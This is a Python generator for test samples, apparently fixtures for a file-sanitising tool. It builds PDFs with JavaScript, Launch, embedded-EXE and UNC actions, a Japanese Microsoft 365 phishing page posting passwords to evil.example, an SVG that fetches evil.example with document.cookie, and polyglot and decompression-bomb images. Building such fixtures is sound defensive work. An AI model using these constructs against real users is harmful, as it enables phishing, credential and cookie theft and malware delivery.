#!/usr/bin/env python3
"""Generates the PDF, HTML, SVG and image cases of samples/content/.

Run from the repository root: python3 samples/make_content.py
Needs Pillow (pip install pillow) for the images and LibreOffice (soffice) for
the one PDF written by a real office suite. Output is deterministic.
Anything active is written as <name>.in.zip, never raw. Expected verdicts
live beside each sample as <name>.expected.json (UPDATE_GOLDEN=1 cargo test
writes them; review every change).
"""
import hashlib, io, os, shutil, subprocess, tempfile, zlib

from mailgen import EOL, attachment, load, multipart, write, zip_of

FOLDER = "content"


# --- PDF -------------------------------------------------------------------------

def pdf(objects, root=1, version="1.4", trailer_extra=""):
    """A PDF from numbered object bodies (1-based), with a correct xref."""
    out = f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        body = body.encode("latin-1") if isinstance(body, str) else body
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for o in offsets:
        out += f"{o:010d} 00000 n \n".encode()
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R {trailer_extra}>>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return out


def stream(data, extra=""):
    data = data.encode("latin-1") if isinstance(data, str) else data
    return f"<< /Length {len(data)} {extra}>>\nstream\n".encode() + data + b"\nendstream"


def text_page_objects(lines, first=3, annots=""):
    """Page tree at 2, one page per line group, Helvetica at `first`."""
    content = "BT /F1 18 Tf 72 720 Td " + " ".join(
        f"({l}) Tj 0 -28 Td" for l in lines) + " ET"
    return [
        f"<< /Type /Pages /Kids [{first + 1} 0 R] /Count 1 >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 {first} 0 R >> >> "
        f"/Contents {first + 2} 0 R {annots}>>",
        stream(content),
    ]


def simple(lines, catalog_extra="", page_annots="", more=()):
    """Catalog 1, pages 2, font 3, page 4, content 5, then `more` from 6."""
    return pdf([f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>"]
               + text_page_objects(lines, annots=page_annots) + list(more))


PE = load("tk_testTinyPE.exe")

write(FOLDER, "gen_pdf_js_names_tree.pdf", simple(
    ["Quarterly report"], "/Names << /JavaScript 6 0 R >>",
    more=["<< /Names [(init) 7 0 R] >>", "<< /S /JavaScript /JS (app.alert('names tree')) >>"]),
    dangerous=True)
write(FOLDER, "gen_pdf_openaction_hex_names.pdf", simple(
    ["Invoice 2026-11"], "/Open#41ction 6 0 R",
    more=["<< /S /J#61vaScript /J#53 (this.exportDataObject({cName:'a', nLaunch:2})) >>"]),
    dangerous=True)
write(FOLDER, "gen_pdf_aa_on_page.pdf", simple(
    ["Meeting notes"], page_annots="/AA << /O 6 0 R >>",
    more=["<< /S /JavaScript /JS (app.launchURL('https://evil.example/')) >>"]), dangerous=True)
write(FOLDER, "gen_pdf_aa_on_annotation.pdf", simple(
    ["Click the link below"], page_annots="/Annots [6 0 R]",
    more=["<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] "
          "/A << /S /URI /URI (https://www.example.jp/) >> /AA << /E << /S /JavaScript /JS (app.alert(1)) >> >> >>"]),
    dangerous=True)
write(FOLDER, "gen_pdf_launch_annotation.pdf", simple(
    ["Open the attachment"], page_annots="/Annots [6 0 R]",
    more=["<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] "
          "/A << /S /Launch /Win << /F (cmd.exe) /P (/c echo CDR-TEST harmless) >> >> >>"]), dangerous=True)
write(FOLDER, "gen_pdf_embedded_exe.pdf", simple(
    ["See the attached tool"], "/Names << /EmbeddedFiles << /Names [(tool.exe) 6 0 R] >> >>",
    more=["<< /Type /Filespec /F (tool.exe) /UF (tool.exe) /EF << /F 7 0 R >> >>",
          stream(PE, "/Type /EmbeddedFile /Subtype /application#2Foctet-stream ")]), dangerous=True)
write(FOLDER, "gen_pdf_file_attachment_annotation.pdf", simple(
    ["Details in the pin"], page_annots="/Annots [6 0 R]",
    more=["<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /FS 7 0 R /Name /PushPin >>",
          "<< /Type /Filespec /F (readme.js) /EF << /F 8 0 R >> >>",
          stream("WScript.Echo('CDR-TEST harmless')", "/Type /EmbeddedFile ")]), dangerous=True)
write(FOLDER, "gen_pdf_xfa_form.pdf", simple(
    ["Application form"], "/AcroForm << /Fields [] /XFA 6 0 R >>",
    more=[stream("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script contentType='application/x-javascript'>"
                 "app.alert(1)</script></template></xdp:xdp>")]), dangerous=True)
write(FOLDER, "gen_pdf_submitform_button.pdf", simple(
    ["Enter your password"], "/AcroForm << /Fields [6 0 R] >>", page_annots="/Annots [6 0 R]",
    more=["<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 630] /P 4 0 R "
          "/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >> >>"]),
    dangerous=True)
write(FOLDER, "gen_pdf_importdata.pdf", simple(
    ["Loading your data"], "/OpenAction << /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\data.fdf) >>"),
    dangerous=True)
write(FOLDER, "gen_pdf_gotor_unc.pdf", simple(
    ["Continue on the next document"], page_annots="/Annots [6 0 R]",
    more=["<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] "
          "/A << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\next.pdf) /D [0 /Fit] >> >>"]), dangerous=True)
write(FOLDER, "gen_pdf_gotoe.pdf", simple(
    ["Embedded go-to"], "/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (inner.pdf) >> >>"),
    dangerous=True)
write(FOLDER, "gen_pdf_richmedia.pdf", simple(
    ["Video"], page_annots="/Annots [6 0 R]",
    more=["<< /Type /Annot /Subtype /RichMedia /Rect [72 400 400 600] /RichMediaContent 7 0 R >>",
          "<< /Type /RichMediaContent /Assets << /Names [(a.swf) 8 0 R] >> >>",
          "<< /Type /Filespec /F (a.swf) /EF << /F 9 0 R >> >>",
          stream("FWS\x09CDR-TEST", "/Type /EmbeddedFile ")]), dangerous=True)
write(FOLDER, "gen_pdf_next_chain_js.pdf", simple(
    ["Table of contents"], "/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next 6 0 R >>",
    more=["<< /S /JavaScript /JS (app.alert('chained')) >>"]), dangerous=True)
write(FOLDER, "gen_pdf_field_keystroke_js.pdf", simple(
    ["Amount"], "/AcroForm << /Fields [6 0 R] >>", page_annots="/Annots [6 0 R]",
    more=["<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [72 600 200 620] /P 4 0 R "
          "/AA << /K << /S /JavaScript /JS (AFNumber_Keystroke(0,0,0,0,'',true)) >> >> >>"]), dangerous=True)
write(FOLDER, "gen_pdf_uri_link_clean.pdf", simple(
    ["Our website: www.example.jp"], page_annots="/Annots [6 0 R]",
    more=["<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] "
          "/A << /S /URI /URI (https://www.example.jp/) >> >>"]))
write(FOLDER, "gen_pdf_three_pages_clean.pdf", pdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [4 0 R 6 0 R 8 0 R] /Count 3 >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
] + [x for n in range(3) for x in (
    f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents {5 + 2 * n} 0 R >>",
    stream(f"BT /F1 24 Tf 72 700 Td (Page {n + 1} of the minutes) Tj ET"))]))


def objstm_pdf(members, lines):
    """Catalog, pages and page as usual; `members` (numbered from 6) inside one
    compressed object stream, with a cross-reference stream."""
    base = [f"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"] + text_page_objects(lines)
    header = " ".join(f"{6 + i} {0}" for i in range(len(members)))
    # offsets inside the stream
    parts, offs, pos = [], [], 0
    for m in members:
        offs.append(pos)
        parts.append(m)
        pos += len(m) + 1
    header = " ".join(f"{6 + i} {offs[i]}" for i in range(len(members)))
    body = (header + "\n").encode()
    first = len(body)
    body += "\n".join(parts).encode() + b"\n"
    comp = zlib.compress(body, 9)
    objstm_num = 6 + len(members)
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    offsets = {}
    for i, b in enumerate(base, 1):
        offsets[i] = len(out)
        b = b.encode("latin-1") if isinstance(b, str) else b
        out += f"{i} 0 obj\n".encode() + b + b"\nendobj\n"
    offsets[objstm_num] = len(out)
    out += (f"{objstm_num} 0 obj\n<< /Type /ObjStm /N {len(members)} /First {first} /Filter /FlateDecode "
            f"/Length {len(comp)} >>\nstream\n").encode() + comp + b"\nendstream\nendobj\n"
    xref_num = objstm_num + 1
    offsets[xref_num] = len(out)
    rows = [b"\x00\x00\x00\x00\xff\xff"]
    for n in range(1, xref_num + 1):
        if n in offsets:
            rows.append(b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00")
        else:
            rows.append(b"\x02" + objstm_num.to_bytes(4, "big") + (n - 6).to_bytes(1, "big"))
    xdata = b"".join(rows)
    out += (f"{xref_num} 0 obj\n<< /Type /XRef /Size {xref_num + 1} /W [1 4 1] /Root 1 0 R "
            f"/Length {len(xdata)} >>\nstream\n").encode() + xdata + b"\nendstream\nendobj\n"
    out += f"startxref\n{offsets[xref_num]}\n%%EOF\n".encode()
    return out


write(FOLDER, "gen_pdf_objstm_js.pdf", objstm_pdf(
    ["<< /S /JavaScript /JS 7 0 R >>", "(app.alert('inside an object stream'))"], ["Object streams"]),
    dangerous=True)


def incremental(base, objects, root=1):
    """`base` with an update appended: `objects` as {number: body}."""
    prev = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    size = int(base.split(b"/Size ")[1].split(b" ")[0])
    out = base
    offsets = {}
    for n, body in sorted(objects.items()):
        offsets[n] = len(out)
        out += f"{n} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += b"xref\n"
    for n in sorted(offsets):
        out += f"{n} 1\n{offsets[n]:010d} 00000 n \n".encode()
    size = max(size, max(offsets) + 1)
    out += (f"trailer\n<< /Size {size} /Root {root} 0 R /Prev {prev} >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return out


CLEAN_BASE = simple(["Budget draft v1"])
write(FOLDER, "gen_pdf_incremental_adds_js.pdf", incremental(CLEAN_BASE, {
    1: "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
    6: "<< /S /JavaScript /JS (app.alert('added by an update')) >>"}), dangerous=True)
JS_BASE = simple(["Budget draft v2"], "/OpenAction 6 0 R",
                 more=["<< /S /JavaScript /JS (app.alert('old revision')) >>"])
write(FOLDER, "gen_pdf_incremental_hides_old_js.pdf", incremental(JS_BASE, {
    1: "<< /Type /Catalog /Pages 2 0 R >>"}), dangerous=True)


def libreoffice_pdf():
    """A PDF from a real producer: LibreOffice's export of a Word sample."""
    if not shutil.which("soffice"):
        return None
    with tempfile.TemporaryDirectory() as d:
        src = os.path.join(d, "report.docx")
        open(src, "wb").write(load("tk_testWORD.docx"))
        subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{d}/profile",
                        "--convert-to", "pdf", "--outdir", d, src], check=True, capture_output=True)
        return open(os.path.join(d, "report.pdf"), "rb").read()


existing = os.path.join(os.path.dirname(os.path.abspath(__file__)), FOLDER, "lo_report.pdf")
if not os.path.exists(existing):  # LibreOffice stamps dates: write once, keep.
    data = libreoffice_pdf()
    if data:
        write(FOLDER, "lo_report.pdf", data)


# --- HTML ------------------------------------------------------------------------

PHISH_HTML = """<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="30;url=https://evil.example/session">
<title>Microsoft 365</title><link rel="stylesheet" href="https://evil.example/ms.css"></head>
<body onload="document.forms[0].pw.focus()">
<img src="https://evil.example/logo.png" alt="Microsoft">
<p>パスワードの有効期限が切れます。以下から更新してください。</p>
<p><a href="https://evil.example/login?u=suzuki">https://login.microsoftonline.com/</a></p>
<p><a href="https://city.examp1e.lg.jp/portal">例市ポータル</a></p>
<form action="https://evil.example/collect" method="post">
<input name="user" value="suzuki@city.example.lg.jp"><input name="pw" type="password">
<button type="submit">更新</button></form>
<a href="javascript:document.forms[0].submit()">今すぐ更新</a>
</body></html>
"""
write(FOLDER, "gen_html_phish_login.html", PHISH_HTML, dangerous=True)

ACTIVE_HTML = """<html><head><script src="https://evil.example/a.js"></script>
<style>@import url(https://evil.example/x.css); body{background:url('https://t.example/bg.png')}</style></head>
<body><iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="y.swf">
<div style="background-image:url(https://t.example/p.gif)" onmouseover="steal()">ご案内</div>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">資料</a>
<a href="jav&#x61;script:alert(1)">詳細</a>
<svg><script>alert(2)</script></svg><math><mi xlink:href="javascript:alert(3)">x</mi></math>
<noscript><p title="</noscript><img src=x onerror=alert(4)>"></p></noscript>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->
</body></html>
"""
write(FOLDER, "gen_html_active_elements.html", ACTIVE_HTML, dangerous=True)


def newsletter(items=305):
    """A long HTML newsletter with tables, tracking links and pixels: the
    shape of real marketing mail, about 200 KB."""
    rows = []
    for i in range(items):
        rows.append(
            f'<tr><td style="padding:8px;border-bottom:1px solid #ddd"><img src="https://img.news.example.jp/p/{i}.jpg" '
            f'width="120" alt="商品{i}"></td><td style="padding:8px"><h3 style="margin:0;font-size:16px">'
            f'冬のセール 第{i}弾 &mdash; 最大50%OFF</h3><p style="color:#555">人気の商品を期間限定の特別価格でご提供します。'
            f'在庫がなくなり次第終了となります。詳細は<a href="https://click.news.example.jp/r?u={i:05d}&amp;c=winter">'
            f'こちら</a>をご覧ください。</p><a href="https://click.news.example.jp/r?u={i:05d}&amp;c=btn" '
            f'style="background:#c00;color:#fff;padding:6px 12px;text-decoration:none">購入する</a></td></tr>')
    return ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>td{font-family:sans-serif}"
            ".hdr{background:url(https://img.news.example.jp/hdr.png)}</style></head><body>"
            "<table class=\"hdr\" width=\"100%\"><tr><td><h1>ニュースレター 2026年11月号</h1></td></tr></table>"
            "<table width=\"640\" align=\"center\">" + "".join(rows) + "</table>"
            "<p>配信停止は<a href=\"https://news.example.jp/unsubscribe?id=abc\">こちら</a></p>"
            "<img src=\"https://t.news.example.jp/open.gif?id=abc\" width=\"1\" height=\"1\" alt=\"\">"
            "</body></html>\n")


NEWSLETTER = newsletter()
write(FOLDER, "gen_html_newsletter.html", NEWSLETTER)


def headers(subject, frm="Example News <news@news.example.jp>"):
    sid = hashlib.sha256(subject.encode()).hexdigest()[:12]
    return (f"From: {frm}{EOL}To: suzuki@city.example.lg.jp{EOL}Subject: {subject}{EOL}"
            f"Date: Mon, 23 Nov 2026 09:30:00 +0900{EOL}Message-ID: <{sid}@example.jp>{EOL}"
            f"MIME-Version: 1.0{EOL}")


def body(ctype, data, charset="utf-8", cte="base64"):
    import base64 as b
    raw = data.encode(charset) if isinstance(data, str) else data
    text = b.b64encode(raw).decode()
    lines = EOL.join(text[i:i + 76] for i in range(0, len(text), 76))
    return (f"Content-Type: {ctype}; charset=\"{charset}\"{EOL}Content-Transfer-Encoding: {cte}{EOL}{EOL}"
            f"{lines}").encode()


write(FOLDER, "html_body_newsletter.eml", multipart(headers("Newsletter November"), [
    body("text/plain", "ニュースレター 2026年11月号\nhttps://news.example.jp/2026/11\n"),
    body("text/html", NEWSLETTER)], subtype="alternative"))
write(FOLDER, "html_body_phish_mismatch.eml", multipart(
    headers("Password expiry", frm="IT Support <support@evil.example>"), [
        body("text/plain", "パスワードの有効期限が切れます。\n"),
        body("text/html", PHISH_HTML)], subtype="alternative"), dangerous=True)
SJIS_HTML = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS"></head>'
             '<body><p>会議資料を共有します。</p><p><a href="https://www.city.example.lg.jp/kaigi">'
             '会議ページ</a></p><img src="cid:logo@city"></body></html>')
write(FOLDER, "html_body_shift_jis.eml", headers("Kaigi shiryou", frm="Tanaka <tanaka@city.example.lg.jp>").encode()
      + body("text/html", SJIS_HTML, charset="shift_jis"))
write(FOLDER, "text_body_urls.eml", headers("Links", frm="Tanaka <tanaka@city.example.lg.jp>").encode()
      + body("text/plain", "資料はこちら: https://www.example.jp/docs/a.pdf\n"
             "申請フォーム http://forms.example.jp/apply?id=1 まで。\n"))


# --- SVG -------------------------------------------------------------------------

write(FOLDER, "gen_svg_script_onload.svg", """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="fetch('https://evil.example/'+document.cookie)">
<script type="text/javascript"><![CDATA[ window.location='https://evil.example/'; ]]></script>
<rect width="200" height="100" fill="#36c" onclick="alert(1)"/>
<text x="20" y="60" fill="#fff">Invoice</text>
</svg>
""", dangerous=True)
write(FOLDER, "gen_svg_foreignobject_links.svg", """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200">
<foreignObject width="300" height="200"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/">
<input name="pw" type="password"/></form></body></foreignObject>
<a xlink:href="javascript:alert(1)"><text x="10" y="20">click</text></a>
<image xlink:href="https://evil.example/track.png" width="1" height="1"/>
<set attributeName="href" to="javascript:alert(2)"/>
</svg>
""", dangerous=True)
write(FOLDER, "gen_svg_clean_chart.svg", """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 80">
<defs><linearGradient id="g"><stop offset="0" stop-color="#36c"/><stop offset="1" stop-color="#9cf"/></linearGradient></defs>
<style>.bar{fill:url(#g)}</style>
<rect class="bar" x="10" y="30" width="20" height="40"/><rect class="bar" x="50" y="10" width="20" height="60"/>
<use xlink:href="#g"/><text x="10" y="78" font-size="6">2024 2025 2026</text>
</svg>
""")


# --- Images ----------------------------------------------------------------------

from PIL import Image  # noqa: E402


def image(fmt, size=(64, 48), **kw):
    img = Image.new("RGB", size)
    for x in range(size[0]):
        for y in range(size[1]):
            img.putpixel((x, y), ((x * 4) % 256, (y * 5) % 256, 128))
    buf = io.BytesIO()
    img.save(buf, fmt, **kw)
    return buf.getvalue()


ZIP_WITH_EXE = zip_of([("invoice.exe", PE)])
write(FOLDER, "gen_png_appended_zip.png", image("PNG") + ZIP_WITH_EXE, dangerous=True)
exif = Image.Exif()
exif[0x010F] = "CDR-TEST camera"   # Make
exif[0x0131] = "<script>alert(1)</script>"  # Software
exif[0x0112] = 6                   # Orientation: rotate 90° CW
write(FOLDER, "gen_jpeg_exif_rotated_appended.jpg",
      image("JPEG", quality=85, exif=exif.tobytes(), comment=b"GPS 35.68N 139.76E") + b"PK\x03\x04CDR-TEST",
      dangerous=True)
write(FOLDER, "gen_jpeg_clean.jpg", image("JPEG", quality=85))
frames = [Image.new("P", (32, 32), i * 40) for i in range(4)]
buf = io.BytesIO()
frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0, comment=b"CDR-TEST")
write(FOLDER, "gen_gif_animated_comment.gif", buf.getvalue())
write(FOLDER, "gen_bmp_clean.bmp", image("BMP", (16, 16)))
write(FOLDER, "gen_tiff_clean.tiff", image("TIFF", (16, 16)))
write(FOLDER, "gen_webp_lossless.webp", image("WEBP", (16, 16), lossless=True))


def png_bomb(w, h):
    """A valid PNG header claiming w×h pixels, with a few bytes of data."""
    def chunk(kind, data):
        return (len(data).to_bytes(4, "big") + kind + data
                + zlib.crc32(kind + data).to_bytes(4, "big"))
    ihdr = w.to_bytes(4, "big") + h.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 1024)) + chunk(b"IEND", b"")


write(FOLDER, "gen_png_pixel_bomb.png", png_bomb(50000, 50000), dangerous=True)
